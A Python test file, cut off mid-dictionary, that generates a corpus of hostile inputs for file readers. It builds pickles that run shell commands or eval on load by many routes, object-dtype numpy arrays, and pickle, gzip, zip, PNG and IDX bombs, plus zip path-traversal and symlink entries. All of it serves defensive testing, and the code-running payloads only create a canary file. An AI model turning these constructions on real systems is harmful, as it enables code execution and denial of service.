r"""A corpus of known attacks on whoever reads a file. None is kept: each run makes them anew.

``python tests/attacks.py FOLDER`` writes one file for each attack. Those that run code all try
to make one file, the canary (``FOLDER/canary``); test_attacks.py proves that they do
under `pickle.load` and `numpy.load`. The others are bombs, short files that declare, unfold or
decompress to far more than they are, and files that end, nest or contradict themselves where a
reader may not expect it.

Sources of the pickle attacks, all public: numpy/numpy#12759, mindspore-ai/mindspore#183,
protectai/modelscan#85 and #89, trailofbits/fickling#210, mmaitre314/picklescan#66,
nltk/nltk#3757, tue-bmd/zea#611; the rest was made up here.
"""

import collections
import functools
import gzip
import io
import json
import marshal
import os
import pickle
import struct
import sys
import zipfile
import zlib

import numpy as np

#: One attack. `kind` is the format it claims to be; `bites` says whether it makes the canary
#: when the standard library or numpy reads it: "always", or "where it exists" (the function
#: that it calls), or None for a bomb. Only the first reader of its kind gets a `heavy` one.
Attack = collections.namedtuple("Attack", "name kind data bites heavy")

MIB = 1 << 20

#: Numbers of copyreg extensions that run a command, one for each of EXT1, EXT2 and EXT4.
EXTENSIONS = {0xC8: "os.system", 0x1234: "posix.system", 0x123456: "subprocess.getoutput"}


class Corpus:
    """Collects attacks under names that are file names too."""

    def __init__(self, canary, heavy):
        self.canary, self.heavy = str(canary), heavy
        self.shell = "touch " + self.canary
        self.python = f"open({self.canary!r}, 'w').close()"
        self.attacks = []

    def add(self, kind, name, data, bites=None):
        """Add an attack; a heavy one comes as a function that makes its bytes."""
        name, heavy = kind + "-" + name, callable(data)
        if not heavy:
            self.attacks.append(Attack(name, kind, bytes(data), bites, heavy))
        elif self.heavy:
            self.attacks.append(Attack(name + ".heavy", kind, data(), bites, heavy))

    def add_all(self, kind, table, bites=None):
        for name, data in table.items():
            self.add(kind, name, data, bites)


def corpus(canary, parts=None, heavy=True):
    """Make the attacks of some parts, by default of all, each name once.

    `canary` is the file that they try to make: letters, digits and ``/._-`` only.
    """
    made = Corpus(canary, heavy)
    for add in parts or [part for key, part in globals().items() if key.startswith("add_")]:
        add(made)
    return made.attacks


def light(*parts):
    """Return name -> bytes of the attacks that some parts add, but for the heavy ones."""
    return {attack.name: attack.data for attack in corpus("/no/canary", parts, heavy=False)}


def zipped(data, level=9):
    return gzip.compress(data, level, mtime=0)


def name(module, attribute):
    """GLOBAL: push what a module has under a name."""
    return f"c{module}\n{attribute}\n".encode()


def value(plain):
    """Push a plain value."""
    return pickle.dumps(plain, 2)[2:-1]


def short(text):
    """SHORT_BINUNICODE: push a text without a memo entry."""
    return b"\x8c" + bytes([len(text)]) + text.encode()


def call(function, *args):
    """MARK, arguments, TUPLE, REDUCE: all of them pickled already."""
    return function + b"(" + b"".join(args) + b"tR"


class Reduced:
    """Pickles as a call of `function`."""

    def __init__(self, function, *args):
        self.call = function, args

    def __reduce__(self):
        return self.call


def add_calls(made):
    """Add one call of one function, by the plain opcodes that pickle itself writes."""
    path, shell, python = made.canary, made.shell, made.python
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        data = pickle.dumps(Reduced(os.system, shell), protocol)
        made.add("pickle", f"os.system-protocol-{protocol}", data, "always")
        data = pickle.dumps([np.zeros(2), Reduced(eval, python)], protocol)
        made.add("pickle", f"eval-after-an-array-{protocol}", data, "always")
    calls = [
        ([shell], "os.system posix.system subprocess.getoutput commands.getoutput"),
        ([["touch", path]], "subprocess.call subprocess.check_output"),
        ([os.P_WAIT, "touch", "touch", path], "os.spawnlp"),
        ([path], "os.mkdir logging.FileHandler"),
        ([path, os.O_CREAT | os.O_WRONLY], "os.open"),
        ([path, "w"], "builtins.open io.open codecs.open _io.FileIO gzip.GzipFile zipfile.ZipFile"),
        ([os.devnull, path], "shutil.copyfile"),
        ([python], "builtins.eval builtins.exec __builtin__.eval"),
        ([python, {}], "runpy._run_code"),
        (["pass", python], "timeit.timeit"),
        ([path, "u1", "w+", 0, (1,)], "numpy.memmap"),
        ([path, [1]], "numpy.savetxt"),
    ]
    in_some_numpys = [
        ([shell], "numpy.distutils.exec_command.exec_command numpy.f2py.diagnose.run_command"),
        ([python], "numpy.testing.measure"),
        ([python, {}], "numpy.f2py.crackfortran.getlincoef numpy.testing._private.utils.runstring"),
        ([python, {}, {}], "numpy.f2py.crackfortran.myeval"),
        ([path, "w+", "u1", (1,)], "numpy.lib.format.open_memmap"),
    ]
    for bites, table in ("always", calls), ("where it exists", in_some_numpys):
        for args, functions in table:
            for dotted in functions.split():
                data = call(name(*dotted.rsplit(".", 1)), *map(value, args)) + b"."
                made.add("pickle", dotted, data, bites)


def add_indirections(made):
    """Add calls whose file does not name the harmful function, or builds it first."""
    shell, python, path = value(made.shell), value(made.python), value(made.canary)
    os_module = call(name("importlib", "import_module"), value("os"))
    system = call(name("builtins", "getattr"), os_module, value("system"))
    built = name("builtins", "list")
    code = marshal.dumps(compile(made.python, "x", "exec"))
    partial = name("functools", "partial") + value((int,)) + b"\x81"
    state = b"(" + name("os", "system") + b"(" + shell + b"t}Nt"
    attack = {
        "getattr": call(system, shell),
        "__import__": call(name("operator", "methodcaller"), value("system"), shell)
        + b"(" + call(name("builtins", "__import__"), value("os")) + b"tR",
        "attrgetter": call(
            call(call(name("operator", "attrgetter"), value("system")), os_module), shell
        ),
        "partial": call(call(name("functools", "partial"), system, shell)),
        "partial-with-a-state": call(partial + state + b"b"),
        "reduce": call(
            call(name("functools", "reduce"), name("builtins", "getattr"), value(["system"]),
                 os_module),
            shell,
        ),
        "map": call(built, call(name("builtins", "map"), name("builtins", "eval"),
                                b"](" + python + b"e")),
        "starmap": call(built, call(name("itertools", "starmap"), name("builtins", "eval"),
                                    b"](" + python + b"\x85e")),
        "marshalled-code": call(call(name("types", "FunctionType"),
                                     call(name("marshal", "loads"), value(code)),
                                     call(name("builtins", "globals")))),
        "pydoc.locate": call(call(name("pydoc", "locate"), value("os.system")), shell),
        "copyreg.__newobj__": call(name("copyreg", "__newobj__"), name("numpy", "memmap"), path,
                                   *map(value, ("u1", "w+", 0, (1,)))),
        "setstate-in-the-state": name("argparse", "Namespace") + b")\x81}"
        + value("__setstate__") + name("os", "system") + b"sb" + shell + b"b",
        "numpy-frompyfunc": call(
            call(name("numpy", "frompyfunc"), name("builtins", "eval"), value(1), value(1)),
            python,
        ),
    }  # fmt: skip
    maybe = {
        "pkgutil.resolve_name": call(
            call(name("pkgutil", "resolve_name"), value("os:system")), shell
        ),
        "operator.call": call(name("operator", "call"), system, shell),
        "numpy-builtins": call(
            call(name("operator", "getitem"), name("numpy", "__builtins__"), value("eval")), python
        ),
    }
    for bites, table in ("always", attack), ("where it exists", maybe):
        made.add_all("pickle", {key: data + b"." for key, data in table.items()}, bites)


def add_dotted_names(made):
    """Add names that STACK_GLOBAL walks, attribute by attribute, from a module of good repute."""
    exists = "where it exists"
    for module, path, argument, bites in (
        ("gzip", "os.system", made.shell, "always"),
        ("codecs", "builtins.exec", made.python, "always"),
        ("pickle", "codecs.builtins.eval", made.python, "always"),
        ("numpy", "testing._private.utils.os.system", made.shell, exists),
        ("numpy.lib._npyio_impl", "os.system", made.shell, exists),
        ("numpy.lib.npyio", "os.system", made.shell, exists),
        ("numpy", "prod.__globals__.__class__", made.shell, None),
        ("dlt.files", "os.system", made.shell, exists),
    ):
        data = b"\x80\x04" + short(module) + short(path) + b"\x93" + value(argument) + b"\x85R."
        made.add("pickle", f"dotted-{module}-{path}", data, bites)


def add_other_opcodes(made):
    """Add other opcodes than GLOBAL and REDUCE that import, call or set a state."""
    shell, path = value(made.shell), value(made.canary)
    memmap = name("numpy", "memmap")
    args = b"(" + path + b"".join(map(value, ("u1", "w+", 0, (1,)))) + b"t"
    options = value({"mode": "w+", "shape": (1,)})
    one, two, four = EXTENSIONS
    call_it = shell + b"\x85R."
    biting = {
        "INST": b"(" + shell + b"ios\nsystem\n.",
        "OBJ": b"(" + name("os", "system") + shell + b"o.",
        "NEWOBJ": memmap + args + b"\x81.",
        "NEWOBJ_EX": memmap + path + b"\x85" + options + b"\x92.",
        "EXT1": b"\x80\x02\x82" + struct.pack("<B", one) + call_it,
        "EXT2": b"\x80\x02\x83" + struct.pack("<H", two) + call_it,
        "EXT4": b"\x80\x02\x84" + struct.pack("<i", four) + call_it,
        "PERSID": b"P" + made.shell.encode() + b"\n.",
        "BINPERSID": shell + b"Q.",
    }
    others = {
        "EXT4-negative": b"\x80\x02\x84\xff\xff\xff\xff.",
        "NEXT_BUFFER": b"\x80\x05\x97.",
        "READONLY_BUFFER": b"\x80\x05\x97\x98.",
        "array-out-of-band": pickle.dumps(np.zeros(9), 5, buffer_callback=[].append),
        "BUILD-on-numpy.dtype": name("numpy", "dtype") + value({"x": 1}) + b"b.",
        "SETITEM-on-builtins": name("builtins", "__dict__") + b"NNs.",
    }
    made.add_all("pickle", biting, "always")
    made.add_all("pickle", others)


def add_object_arrays(made):
    """Add arrays of dtype object: their data are a pickle, in a pickle or in a .npy file."""
    hostile = np.array([Reduced(os.system, made.shell), 1], dtype=object)
    for protocol in (0, 2, 4, 5):
        data = pickle.dumps(hostile, protocol)
        made.add("pickle", f"object-array-{protocol}", data, "always")
    core = name("numpy.core.multiarray", "scalar")
    inner = call(name("os", "system"), value(made.shell))
    made.add("pickle", "object-scalar", call(core, dtype("O8", "|", 63), inner) + b".", "always")
    structured = np.zeros(1, [("a", "f4"), ("b", "O")])
    structured["b"][0] = Reduced(os.system, made.shell)
    made.add("pickle", "object-in-a-structure", pickle.dumps(structured, 2), "always")
    sets = {key: hostile for key in ("x_train", "y_train", "x_test", "y_test")}
    described = {"W": np.zeros((4, 2)), "b": np.zeros(2), "__dlt__": hostile}
    for kind, key, save, arrays in (
        ("npy", "object-array", np.save, {"arr": hostile}),
        ("npz", "object-arrays", np.savez, sets),
        ("npz", "object-array-as-description", np.savez, described),
    ):
        file = io.BytesIO()
        save(file, **arrays)
        made.add(kind, key, file.getvalue(), "always")


def dtype(code, order="<", flags=0, fields=(None, None, None), sizes=(-1, -1)):
    """Push a numpy.dtype with its state."""
    made = call(name("numpy", "dtype"), value(code), value(0), value(1))
    return made + value((3, order, *fields, *sizes, flags)) + b"b"


def array(shape, described, data=b"\0" * 8, fortran=False, version=1):
    """Push an array, by an arbitrary state; shape and data are plain, the dtype is pickled."""
    empty = call(
        name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), value((0,)),
        value("b"),
    )  # fmt: skip
    raw = data if isinstance(data, bytes) else b""
    pushed = b"U" + bytes([len(raw)]) + raw if raw is data else value(data)
    state = value(version) + value(shape) + described + value(fortran) + pushed
    return empty + b"(" + state + b"tb"


def add_array_states(made):
    """Add impossible states of arrays and dtypes."""
    f4 = dtype("f4")
    shapes = {
        "huge": (1 << 40,),
        "huge-product": (1 << 20,) * 4,
        "that-overflows": (1 << 62, 4),
        "beyond-64-bits": (1 << 70,),
        "that-wraps-to-the-size": ((1 << 62) + 1, 2),
        "negative": (-2,),
        "negative-twice": (-1, -2),
        "of-booleans": (True, 2),
        "of-a-float": (2.0,),
        "of-text": "2",
        "a-list": [2],
        "nested": ((2,),),
        "of-65-dimensions": (1,) * 65,
        "zero-times-huge": (0, 1 << 62, 1 << 62),
        "none": None,
    }
    states = {
        "data-a-list": array((2,), f4, [1, 2]),
        "data-none": array((2,), f4, None),
        "data-wide-text": array((2,), f4, "\u4e2d" * 8),
        "data-an-array": array((2,), f4)[:-2] + array((2,), f4) + b"tb",
        "version-huge": array((2,), f4, version=1 << 70),
        "version-true": array((2,), f4, version=True),
        "order-text": array((2,), f4, fortran="C"),
        "dtype-none": array((2,), b"N"),
        "dtype-a-global": array((2,), name("numpy", "dtype")),
        "dtype-an-array": array((2,), array((2,), f4)),
        "no-dtype-state": array((2,), call(name("numpy", "dtype"), *map(value, ("f4", 0, 1)))),
        "filled-twice": array((2,), f4) + value((1, (2,), None, False, b"")) + b"b",
        "bool-of-2": array((8,), dtype("b1", "|"), b"\2" * 8),
    }
    dtypes = {
        "object": dtype("O8", "|", 63),
        "void-huge": dtype("V2000000000", "|", 0, sizes=(2000000000, 1)),
        "bytes-huge": dtype("S2000000000", "|", 0, sizes=(2000000000, 1)),
        "text-huge": dtype("U500000000", "<", 8, sizes=(2000000000, 4)),
        "dates": dtype("M8"),
        "complex": dtype("c16"),
        "comma": dtype("f4,f4"),
        "with-metadata": dtype("f4")[:-1] + value(({"a": 1},)) + b"b",
        "fields": dtype("V8", "|", 16, (None, ("a",), {"a": ("f4", 0)}), (8, 1)),
        "subarray": dtype("V8", "|", 0, (("f4", (2,)), None, None), (8, 4)),
        "order-unknown": dtype("f4", "?"),
        "order-native": dtype("f4", "="),
        "names-of-f4": dtype("f4", "<", 0, (None, ("a",), {"a": 1})),
        "item-size-0": dtype("f0"),
        "not-a-code": dtype("f4\n"),
    }
    made.add_all("pickle", {"shape-" + key: array(s, f4) + b"." for key, s in shapes.items()})
    states.update({"dtype-" + key: array((2,), data) for key, data in dtypes.items()})
    made.add_all("pickle", {"state-" + key: data + b"." for key, data in states.items()})


@functools.lru_cache(maxsize=None)
def piece(letter):
    return zipped(letter * 64 * MIB)


def repeated(letter):
    """Gzip 1088 MiB of one letter, member by member, in no time."""
    return piece(letter) * 17


def unfolding(times, empty, pack):
    """Put a value twice into the next one, so many times."""
    data = empty + b"q\0"
    for i in range(times):
        data += pack(b"h%c" % i, b"h%c" % i) + b"q%c" % (i + 1)
    return b"(" + data + b"t"  # all of them, the last one unfolds to 2**times


def add_pickle_bombs(made):
    """Add pickles that declare or unfold to far more than they are."""
    for key, empty, pack in (
        ("lists", b"]", lambda a, b: b"](" + a + b + b"e"),
        ("tuples", b")", lambda a, b: a + b + b"\x86"),
        ("dicts", b"}", lambda a, b: b"}(K\0" + a + b"K\1" + b + b"u"),
    ):
        made.add("pickle", key + "-doubled", unfolding(60, empty, pack) + b".")
    made.add("pickle", "DUP", b"N" + b"2\x86" * 100 + b".")
    made.add("pickle", "list-in-itself", b"]q\0h\0a.")
    made.add("pickle", "dict-in-itself", b"}q\0K\5h\0s.")
    made.add("pickle", "array-as-its-own-data", array((2,), dtype("f4"))[:-2] + b"g1\ntb.")
    # Short files that name a megabyte again and again.
    text = b"X" + struct.pack("<I", MIB) + bytes(MIB) + b"q\1"
    encode = name("_codecs", "encode") + b"q\2" + value("latin1") + b"q\3"
    calls = b"h\2h\1h\3\x86R" * 3000
    again = b"(" + text + encode + calls + b"t."
    made.add("pickle", "text-encoded-again-and-again", lambda data=again: zipped(data))
    again = b"(" + b"U\1" + b"x" + text + dtype("u1", "|") + b"q\2" + value((MIB,)) + b"q\3"
    again += name("numpy.core.numeric", "_frombuffer") + b"q\4" + value("C") + b"q\5"
    again += b"h\4(h\1h\2h\3h\5tR" * 3000 + b"t."
    made.add("pickle", "one-buffer-for-many-arrays", zipped(again))
    for key, step in {"lists": b"]", "dicts": b"}K\0Ns", "marks": b"("}.items():
        many = b"(" + step * 100000 + b"t."
        made.add("pickle", "many-" + key, functools.partial(zipped, many, 1))
    puts = b"".join(b"Nr" + struct.pack("<I", i) for i in range(100000))
    made.add("pickle", "many-puts", lambda: zipped(b"(" + puts + b"t.", 1))


def add_lengths(made):
    """Add declared lengths that are not there, and some that are, decompressed."""
    for opcode, head in {
        "BINSTRING": b"T\xff\xff\xff\x7f",
        "BINSTRING-negative": b"T\xff\xff\xff\xff",
        "BINUNICODE": b"X\xff\xff\xff\xff",
        "BINUNICODE8": b"\x8d" + b"\xff" * 8,
        "BINBYTES": b"B\xff\xff\xff\xff",
        "BINBYTES8": b"\x8e" + b"\xff" * 7 + b"\x7f",
        "BYTEARRAY8": b"\x96" + b"\xff" * 8,
        "FRAME": b"\x95" + b"\xff" * 8,
        "LONG4": b"\x8b\xff\xff\xff\x7f",
        "LONG4-negative": b"\x8b\xff\xff\xff\xff",
    }.items():
        made.add("pickle", "length-" + opcode, b"\x80\x05" + head + b"abc")
    head = zipped(b"\x80\x05\x8e" + struct.pack("<Q", 1 << 40))
    made.add("pickle", "terabyte-BINBYTES8", lambda: head + repeated(b"\0"))
    made.add("pickle", "endless-line-STRING", lambda: zipped(b"S'") + repeated(b"1"))
    for key, head in {"INT": b"I", "GLOBAL": b"cos\n"}.items():  # refused after a thousand letters
        made.add("pickle", "endless-line-" + key, zipped(head) + piece(b"1"))

    def wide_letters():
        wide = "\U0001f600".encode() + b"a" * (64 * MIB - 4)
        head = b"(\x8d" + struct.pack("<Q", len(wide))
        return zipped(head) + zipped(wide, 1) + zipped(b"t.")

    made.add("pickle", "text-of-wide-letters", wide_letters)
    for opcode in ("I", "L", "F", "p", "g"):
        digits = opcode.encode() + b"9" * 200000 + b"\n."
        made.add("pickle", "digits-" + opcode, b"N" + digits)
    made.add("pickle", "many-LONG1", b"(" + (b"\x8a\xff" + b"\x7f" * 255) * 1000 + b"t.")
    rows = b"](" + value("a" * MIB) + b"U\0" * 100000 + b"e"
    pairs = b"(" + (rows + b"]\x86") * 3 + b"t."
    made.add("pickle", "one-long-text-among-empty-ones", zipped(pairs))


def add_nesting(made):
    """Add containers in containers, deep enough to end a recursion or a C stack."""
    for key, data in {
        "lists": b"]" * 20000 + b"a" * 19999,
        "tuples": b")" + b"\x85" * 20000,
        "marks": b"(" * 20000 + b"t" * 20000,
        "dicts": b"(K\1" * 10000 + b"N" + b"d" * 10000,
        "keys": b"}" + b")" + b"\x85" * 20000 + b"Ns",
        "101": b")" + b"\x85" * 101,
        "reduced": name("numpy", "dtype") + b"(" * 20000 + b"t" * 20000 + b"R",
    }.items():
        made.add("pickle", "nested-" + key, data + b".")


def add_gzip(made):
    """Add gzip streams that open to too much, lie, or contain each other."""
    small = zipped(b"hello")
    for key, data in {
        "bomb": lambda: repeated(b"\0"),
        "bomb-in-a-bomb": zipped(repeated(b"\0")),
        "in-itself-50-times": functools.reduce(lambda data, _: zipped(data), range(50), b"hello"),
        "many-empty-members": zipped(b"") * 20000,
        "endless-name": b"\x1f\x8b\x08\x08" + bytes(6) + b"a" * MIB,
        "extra-field-cut": b"\x1f\x8b\x08\4" + bytes(6) + b"\xff\xff" + b"a" * 99,
        "wrong-crc": small[:-8] + bytes(4) + small[-4:],
        "wrong-length": small[:-4] + b"\xff\xff\xff\xff",
        "reserved-flags": small[:3] + b"\xe0" + small[4:],
        "preset-dictionary": b"\x1f\x8b\x08\0" + bytes(6) + zlib.compress(b"x"),
        "followed-by-a-page": small + b"<html>",
        "cut-in-the-header": small[:5],
        "magic-only": small[:2],
    }.items():
        made.add("gzip", key, data)


def npy(header, data=b"", version=1):
    """Make a .npy file with a header of one's own."""
    text = header.encode("latin-1") + b"\n"
    length = struct.pack("<H" if version == 1 else "<I", len(text))
    return b"\x93NUMPY" + bytes([version, 0]) + length + text + data


def header(descr="'<f4'", shape="(2,)", order="False"):
    return "{'descr': %s, 'fortran_order': %s, 'shape': %s, }" % (descr, order, shape)


def archive(*members, method=zipfile.ZIP_STORED):
    """Make a zip archive of (name or ZipInfo, data)."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as zipped:
        for info, data in members:
            if isinstance(info, str):
                info = zipfile.ZipInfo(info)
                info.compress_type = method
            zipped.writestr(info, data)
    return file.getvalue()


GOOD = npy(header("'<f4'", "(2,)"), bytes(8))


def add_npy_and_npz(made):
    """Add headers of .npy members that ask for too much or for code."""
    headers = {
        "object": header("'|O'"),
        "fields": header("[('a', '<f4')]"),
        "alignment": header("{'names': ['a'], 'formats': ['O']}"),
        "void-huge": header("'|V2000000000'"),
        "text-huge": header("'<U500000000'", "()"),
        "shape-huge": header(shape="(1000000000000,)"),
        "shape-overflow": header(shape="(4611686018427387905, 4)"),
        "shape-negative": header(shape="(-2,)"),
        "shape-of-many-digits": header(shape=f"({'9' * 4000},)"),
        "shape-of-many-dimensions": header(shape=f"({'1,' * 900})"),
        "shape-text": header(shape="'2'"),
        "code": f"__import__('os').system('{made.shell}')",
        "code-in-a-field": header(f"__import__('os').system('{made.shell}')"),
        "nested": "{" + "(" * 2000 + ")" * 2000 + "}",
        "not-not": "{" + "not " * 900 + "(1)}",
        "if-else": "{'descr': ('f4') %s}" % ("if 1 else 1 " * 300),
        "digits-and-letters": header(shape="(1or 2,)"),
        "called-text": header("'<f4' (1,)", "1"),
        "same-key-twice": "{'descr': '<f4', 'descr': '|O', 'fortran_order': False, 'shape': (1,)}",
        "escape": header("'<f4\x1b[2J'"),
        "nul": header("'<f4\0'"),
        "empty": "",
    }
    for key, text in headers.items():
        data = npy(text, bytes(8))
        made.add("npz", "header-" + key, archive(("x.npy", data), ("y.npy", GOOD)))
        made.add("npy", "header-" + key, data)
    for key, data in {
        "version-9": b"\x93NUMPY\x09\0" + GOOD[8:],
        "length-huge": b"\x93NUMPY\x02\0\xff\xff\xff\xff",
        "cut": GOOD[:-1],
        "too-long": GOOD + b"!",
        "wrong-text": npy(header("'<U1'", "(1,)"), b"\xff\xff\xff\xff"),
        "surrogate": npy(header("'<U1'", "(1,)"), struct.pack("<I", 0xD800)),
        "pickle": pickle.dumps(np.zeros(2)),
        "nothing": b"",
    }.items():
        made.add("npz", "member-" + key, archive(("x.npy", data)))


def add_zip_tricks(made):
    """Add entries of a zip archive that are links, encrypted, twice there, or elsewhere."""
    link = zipfile.ZipInfo("x.npy")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    made.add("npz", "symbolic-link", archive((link, made.canary)))
    for key, inside in {
        "absolute-name": made.canary + ".npy",
        "name-above": "../" * 9 + made.canary.lstrip("/") + ".npy",
        "name-of-a-drive": "C:\\canary.npy",
        "no-name": ".npy",
        "name-with-a-line-break": "a\n\x1b[2Jb.npy",
        "name-with-a-nul": "a\0b.npy",
        "long-name": "n" * 65000 + ".npy",
    }.items():
        made.add("npz", key, archive((inside, GOOD)))
    first, second = zipfile.ZipInfo("x.npy"), zipfile.ZipInfo("y.npy")
    twice = archive((first, GOOD), (second, GOOD))
    made.add("npz", "same-name-twice", twice.replace(b"y.npy", b"x.npy"))
    made.add("npz", "names-that-disagree", twice.replace(b"y.npy", b"z.npy", 1))
    for key, place, bit in (
        ("encrypted", 8, 0x01), ("patched", 8, 0x20), ("strongly-encrypted", 8, 0x40),
        ("method-99", 10, 99), ("method-lzma", 10, 14), ("version-99", 6, 99),
    ):  # fmt: skip
        data = bytearray(twice)
        entry = data.index(b"PK\1\2")
        for at in (entry + place, place - 2):  # in the directory, and before the data
            data[at] = bit
        made.add("npz", key, data)
    made.add("npz", "in-itself", archive(("x.npy", twice)))
    made.add("npz", "not-an-array", archive(("evil.py", made.python)))
    made.add("npz", "comment-of-64-KiB", twice[:-2] + b"\xff\xff" + b"PK\5\6" * 16383 + b"abc")
    made.add("npz", "before-it-a-program", b"PK\3\4" + b"#!/bin/sh\n" * 99 + twice)
    made.add("npz", "many-members", archive(*((str(i) + ".npy", GOOD) for i in range(10001))))
    made.add("npz", "empty-archive", archive())
    extra = zipfile.ZipInfo("x.npy")
    extra.extra = struct.pack("<HH", 1, 60000) + b"a" * 9
    made.add("npz", "extra-field-that-lies", archive((extra, GOOD)))


def add_zip_sizes(made):
    """Add archives whose sizes lie, or that unpack to far more than they are."""
    zero = npy(header("'|u1'", "(67108864,)"), bytes(64 * MIB))
    packed = archive(("x.npy", zero), method=zipfile.ZIP_DEFLATED)
    size = struct.pack("<I", len(zero))
    made.add("npz", "bomb-that-declares-150-bytes", packed.replace(size, struct.pack("<I", 150)))
    made.add("npz", "bomb-that-declares-4-GiB", packed.replace(size, b"\xff\xff\xff\xff"))
    entry = packed.index(b"PK\1\2")
    end = packed.index(b"PK\5\6")
    directory = packed[entry:end]
    for key, n in (("same-data-9-times", 9), ("same-data-99-times", 99)):
        names = (b"%03d.npy" % i for i in range(n))
        entries = b"".join(
            directory[:28] + b"\7" + directory[29:46] + x + directory[51:] for x in names
        )
        tail = struct.pack("<4H2IH", 0, 0, n & 0xFFFF, n & 0xFFFF, len(entries), entry, 0)
        made.add("npz", key, packed[:entry] + entries + b"PK\5\6" + tail)
    good = archive(("x.npy", GOOD))
    at, end = good.index(b"PK\1\2"), good.index(b"PK\5\6")
    for key, place, fmt, number in (
        ("compressed-size-huge", at + 20, "<I", 0xFFFFFFFE),
        ("size-huge", at + 24, "<I", 0xFFFFFFFE),
        ("name-length-huge", at + 28, "<H", 0xFFFF),
        ("offset-huge", at + 42, "<I", 0xFFFFFFFE),
        ("offset-inside", at + 42, "<I", 7),
        ("local-name-length", 26, "<H", 0xFFFF),
        ("directory-size-huge", end + 12, "<I", 0xFFFFFFFE),
        ("directory-offset-huge", end + 16, "<I", 0xFFFFFFFE),
        ("entries-huge", end + 10, "<H", 0xFFFE),
        ("another-disk", end + 4, "<H", 1),
    ):
        data = bytearray(good)
        struct.pack_into(fmt, data, place, number)
        made.add("npz", key, data)
    zip64 = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, 1 << 62, 1 << 61)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, end, 1)
    last = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 65535, 65535, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    made.add("npz", "zip64-huge", good[:end] + zip64 + locator + last)
    made.add("npz", "end-only", b"PK\3\4" + last)


def idx(code, sizes, items=b""):
    return bytes([0, 0, code, len(sizes)]) + struct.pack(f">{len(sizes)}I", *sizes) + items


def add_idx(made):
    """Add headers of IDX files that declare what is not there."""
    most = 0xFFFFFFFF
    for key, data in {
        "huge": idx(8, (most,) * 3, b"abc"),
        "huge-32-dimensions": idx(8, (most,) * 32, b"abc"),
        "255-dimensions": idx(8, (1,) * 255, b"a"),
        "zero-times-huge": idx(8, (0, most, most, most)),
        "just-a-gigabyte": idx(8, (1 << 30,), b"abc"),
        "product-wraps-to-4": idx(8, (1 << 31, 1 << 31, 4), b"abcd"),
        "no-dimensions": idx(8, (), b"a"),
        "unknown-type": idx(10, (1,), b"a"),
        "cut-header": idx(8, (1, 1, 1))[:11],
        "too-few": idx(14, (2, 2), bytes(31)),
        "too-many": idx(14, (2, 2), bytes(33)),
        "nothing-more": idx(8, (1,)),
        "bomb": lambda: zipped(idx(8, (28, 28))) + repeated(b"\0"),
        "swapped-bytes": struct.pack("<4I", 0x0803, 2, 28, 28) + bytes(2 * 28 * 28),
    }.items():
        made.add("idx", key, data)


def chunk(kind, data=b"", length=None, crc=None):
    """Make one chunk of a PNG; the length and checksum may lie."""
    crc = zlib.crc32(kind + data) if crc is None else crc
    length = len(data) if length is None else length
    return struct.pack(">I", length) + kind + data + struct.pack(">I", crc)


def png(*chunks, size=(28, 28), depth=8, colour=0, interlaced=0, pixels=None, level=-1):
    """Make a PNG, by default of 28 x 28 pixels with a white bar, with chunks before its pixels."""
    ihdr = struct.pack(">2I5B", *size, depth, colour, 0, 0, interlaced)
    if pixels is None:
        pixels = b"".join(b"\0" + bytes(12) + b"\xff" * 4 + bytes(12) for _ in range(28))
    packed = chunk(b"IDAT", zlib.compress(pixels, level))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + b"".join(chunks) + packed + chunk(b"IEND")


def add_png(made):
    """Add PNG files whose size, text, profile, animation or chunks are bombs or lies."""
    most = 0x7FFFFFFF
    exif = b"MM\0*\0\0\0\x08\xff\xff" + b"\x01\x12\0\4\xff\xff\xff\xff" * 99
    deflated = zlib.compress(bytes(64 * MIB), 9)
    for key, data in {
        "50001-megapixels": png(size=(most, most)),
        "just-too-large": png(size=(10000, 5001)),
        "as-large-as-allowed": png(size=(10000, 5000)),
        "one-row-of-50-megapixels": png(size=(50000000, 1)),
        "one-column-of-50-megapixels": png(size=(1, 50000000)),
        "no-width": png(size=(0, 28)),
        "depth-0": png(depth=0),
        "colour-7": png(colour=7),
        "interlaced": png(interlaced=1),
        "interlaced-9": png(interlaced=9),
        "pixels-too-few": png(pixels=b"\0" * 99),
        "pixels-a-bomb": png(pixels=bytes(64 * MIB)),
        "filter-9": png(pixels=b"\x09" * 29 * 28),
        "zTXt-bomb": png(chunk(b"zTXt", b"Comment\0\0" + deflated)),
        "iTXt-bomb": png(chunk(b"iTXt", b"Comment\0\1\0\0\0" + deflated)),
        "many-zTXt": png(*[chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(MIB - 9)))] * 200),
        "many-tEXt": png(*[chunk(b"tEXt", b"k\0" + b"a" * 60000)] * 100),
        "iCCP-bomb": png(chunk(b"iCCP", b"icc\0\0" + deflated)),
        "iCCP-method-9": png(chunk(b"iCCP", b"icc\0\x09abc")),
        "xmp-bomb": png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + deflated)),
        "xmp-orientation": png(chunk(
            b"iTXt", b'XML:com.adobe.xmp\0\0\0\0\0<x tiff:Orientation="' + b"9" * 5000 + b'"/>')),
        "eXIf": png(chunk(b"eXIf", exif)),
        "eXIf-loop": png(chunk(b"eXIf", b"II*\0\x08\0\0\0\1\0\x69\x87\4\0\1\0\0\0\x08\0\0\0")),
        "animated": png(chunk(b"acTL", struct.pack(">2I", most, 0))),
        "animated-frame-outside": png(
            chunk(b"acTL", struct.pack(">2I", 2, 0)),
            chunk(b"fcTL", struct.pack(">5I2H2B", 0, most, most, most, most, 0, 0, 0, 0))),
        "palette-missing": png(colour=3),
        "palette-too-long": png(chunk(b"PLTE", bytes(9999)), colour=3),
        "transparency-odd": png(chunk(b"tRNS", b"\0")),
        "gamma-cut": png(chunk(b"gAMA", b"\0")),
        "density-cut": png(chunk(b"pHYs", b"\0")),
        "chunk-of-2-GiB": png(chunk(b"tEXt", b"a", length=most)),
        "chunk-of-4-GiB": png(chunk(b"tEXt", b"a", length=0xFFFFFFFF)),
        "chunk-name-odd": png(chunk(b"\0\1\2\3", b"a")),
